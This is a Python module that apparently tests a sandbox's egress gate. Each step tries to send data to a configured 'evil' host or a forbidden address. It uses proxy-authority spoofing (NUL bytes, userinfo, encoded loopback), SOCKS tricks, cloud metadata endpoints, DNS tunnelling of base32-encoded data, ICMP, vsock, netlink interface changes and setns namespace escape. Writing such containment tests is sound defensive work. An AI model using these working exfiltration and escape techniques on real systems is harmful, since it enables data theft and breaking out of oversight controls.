"""Ways out past the gate: each step tries to carry the loot to somebody who should not have it."""

import base64
import ctypes
import os
import random
import socket
import struct
import urllib.request

from carry import WAIT, context, drain, https, payload, post, proxy, refused, through_proxy
from steps import Loot, step

# Straight to somebody else


@step("send")
def https_to_evil_host(targets: dict, loot: Loot) -> object:
    evil = targets["evil"]
    return https((evil, 443), evil, post(evil, payload("https_to_evil_host", loot)))


@step("send")
def http_to_evil_host(targets: dict, loot: Loot) -> object:
    evil = targets["evil"]
    with socket.create_connection((evil, 80), WAIT) as plain:
        plain.sendall(post(evil, payload("http_to_evil_host", loot)))
        return drain(plain)


@step("send")
def urllib_with_proxy_variables(targets: dict, loot: Loot) -> object:
    data = payload("urllib_with_proxy_variables", loot)
    return urllib.request.urlopen(f"https://{targets['evil']}/", data, WAIT, context=context()).read()


@step("send")
def connect_to_evil_host(targets: dict, loot: Loot) -> object:
    evil = targets["evil"]
    return through_proxy(f"{evil}:443", post(evil, payload("connect_to_evil_host", loot)), evil)


def _connect_step(label: str, authority: str) -> None:
    def action(targets: dict, loot: Loot) -> object:
        named = authority.format(**targets)
        return through_proxy(named, post(targets["evil"], payload(label, loot)), targets["evil"])

    action.__name__ = label
    step("send")(action)


_connect_step("connect_nul_before_allowed_suffix", "{evil}\0.{allowed}:443")
_connect_step("connect_userinfo", "{allowed}@{evil}:443")
_connect_step("connect_allowed_port_as_userinfo", "{allowed}:443@{evil}:443")
_connect_step("connect_suffix", "{allowed}.{evil}:443")
_connect_step("connect_prefix", "x{allowed}:443")
_connect_step("connect_wrong_port", "{allowed}:22")
_connect_step("connect_loopback", "127.0.0.1:{port}")
_connect_step("connect_loopback_short", "127.1:{port}")
_connect_step("connect_loopback_number", "2130706433:{port}")
_connect_step("connect_loopback_mapped", "[::ffff:127.0.0.1]:{port}")
_connect_step("connect_localhost", "localhost:{port}")
_connect_step("connect_host_address", "{host_address}:{port}")
_connect_step("connect_metadata", "169.254.169.254:80")
_connect_step("connect_allowed_then_evil_name", "{allowed}:443")


@step("send")
def absolute_form_to_evil_host(targets: dict, loot: Loot) -> object:
    with socket.create_connection(proxy(), WAIT) as plain:
        evil = targets["evil"]
        plain.sendall(post(evil, payload("absolute_form_to_evil_host", loot), f"http://{evil}/collect"))
        return refused(drain(plain))


@step("send")
def socks_to_evil_host(targets: dict, loot: Loot) -> object:
    return _socks(targets["evil"].encode(), payload("socks_to_evil_host", loot))


@step("send")
def socks_with_nul(targets: dict, loot: Loot) -> object:
    name = targets["evil"].encode() + b"\0." + targets["allowed"].encode()
    return _socks(name, payload("socks_with_nul", loot))


def _socks(name: bytes, data: bytes) -> object:
    with socket.create_connection(proxy(), WAIT) as plain:
        plain.settimeout(WAIT)
        plain.sendall(b"\x05\x01\x00")
        if plain.recv(2) != b"\x05\x00":
            raise PermissionError("no SOCKS")
        plain.sendall(b"\x05\x01\x00\x03" + bytes([len(name)]) + name + struct.pack(">H", 80))
        answer = plain.recv(10)
        if answer[1:2] != b"\x00":
            raise PermissionError(answer)
        plain.sendall(data)
        return drain(plain)


def _address_step(label: str, address: str, port: object) -> None:
    def action(targets: dict, loot: Loot) -> object:
        goal = (address.format(**targets), int(targets["port"] if port is None else port))
        with socket.create_connection(goal, WAIT) as plain:
            plain.sendall(post("x", payload(label, loot)))
            return refused(drain(plain))

    action.__name__ = label
    step("send")(action)


_address_step("raw_loopback", "127.0.0.1", None)
_address_step("raw_loopback_v6", "::1", None)
_address_step("raw_host_address", "{host_address}", None)
_address_step("raw_gate_other_port", "100.64.0.1", None)
_address_step("raw_gate_v6", "fd00:77::1", None)
_address_step("raw_public_address", "1.1.1.1", 443)
_address_step("raw_metadata", "169.254.169.254", 80)
_address_step("raw_metadata_v6", "fd00:ec2::254", 80)
_address_step("raw_ssh", "{evil}", 22)
_address_step("unused_fake_address", "198.18.77.77", 443)


@step("send")
def udp_everywhere(targets: dict, loot: Loot) -> object:
    data = payload("udp_everywhere", loot, 1000)
    goals = [
        ("127.0.0.1", targets["port"]),
        (targets["host_address"], targets["port"]),
        ("100.64.0.1", 443),
        ("8.8.8.8", 53),
    ]
    answers = []
    for goal in goals:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            udp.settimeout(0.5)
            try:
                udp.sendto(data, goal)
                answers.append(udp.recv(512)[:20])
            except OSError:
                continue
    return [answer for answer in answers if b"recorded" in answer]


@step("send")
def icmp(_targets: dict, _loot: Loot) -> object:
    return [kind for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW) if _ping(kind)]


def _ping(kind: int) -> bool:
    try:
        with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as raw:
            raw.settimeout(1)
            raw.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00MARK", ("8.8.8.8", 0))
            return bool(raw.recv(100))
    except OSError:
        return False


@step("send")
def vsock_to_host(_targets: dict, _loot: Loot) -> object:
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as vsock:
        vsock.settimeout(1)
        vsock.connect((2, 1024))
        return "connected"


@step("send")
def abstract_socket(targets: dict, loot: Loot) -> object:
    for name in targets.get("abstract_sockets", []):
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
            client.connect("\0" + name)
            client.sendall(payload("abstract_socket", loot))
            return name
    return None


# By name


@step("send")
def names_that_carry_data(targets: dict, loot: Loot) -> object:
    text = base64.b32encode(loot.data()[:120] or b"nothing").decode().rstrip("=").lower()
    labels = [text[start : start + 50] for start in range(0, len(text), 50)][:3]
    resolved = []
    for parent in (targets["evil"], targets["allowed"], f"files.{targets['allowed']}"):
        for label in labels:
            try:
                resolved.append(socket.getaddrinfo(f"{label}.{parent}", 443)[0][4][0])
            except OSError:
                continue
    return resolved


@step("send")
def dns_by_hand(targets: dict, loot: Loot) -> object:
    label = base64.b32encode(loot.data()[:30] or b"nothing").decode().rstrip("=").lower()[:60]
    answers = []
    for kind in (1, 5, 15, 16, 28, 33, 65, 255):
        for server in ("100.64.0.1", "8.8.8.8"):
            answer = _ask(server, f"{label}.{targets['evil']}", kind)
            if answer and answer[3] & 0x0F == 0 and answer[6:8] != b"\0\0":
                answers.append((server, kind))
    return answers


def _ask(server: str, name: str, kind: int) -> bytes:
    question = b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0"
    head = struct.pack(">HHHHHH", random.randrange(65536), 0x100, 1, 0, 0, 0)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.settimeout(0.3)
        try:
            udp.sendto(head + question + struct.pack(">HH", kind, 1), (server, 53))
            return udp.recv(1500)
        except OSError:
            return b""


@step("send")
def dns_over_tcp(_targets: dict, _loot: Loot) -> object:
    with socket.create_connection(("8.8.8.8", 53), WAIT) as tcp:
        tcp.sendall(
            b"\x00\x1d\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04evil\x07example\x00\x00\x10\x00\x01"
        )
        return drain(tcp)


# By the network itself


@step("send")
def network_of_its_own(_targets: dict, _loot: Loot) -> object:
    """Change the interface or the routes: needs a capability that must not be there."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as netlink:
        netlink.settimeout(1)
        # RTM_NEWLINK, request with acknowledgement: set interface 2 down
        body = struct.pack("=BxHiII", 0, 0, 2, 0, 1)
        netlink.send(struct.pack("=IHHII", 16 + len(body), 16, 5, 1, 0) + body)
        error = struct.unpack("=i", netlink.recv(4096)[16:20])[0]
        if error:
            raise OSError(-error, "netlink")
        return "changed the interface"


@step("send")
def other_network_namespace(_targets: dict, _loot: Loot) -> object:
    libc = ctypes.CDLL(None, use_errno=True)
    for path in ("/proc/1/ns/net", f"/proc/{os.getppid()}/ns/net"):
        if libc.setns(os.open(path, os.O_RDONLY), 0x40000000) == 0:
            return path
    raise OSError(ctypes.get_errno(), "setns")
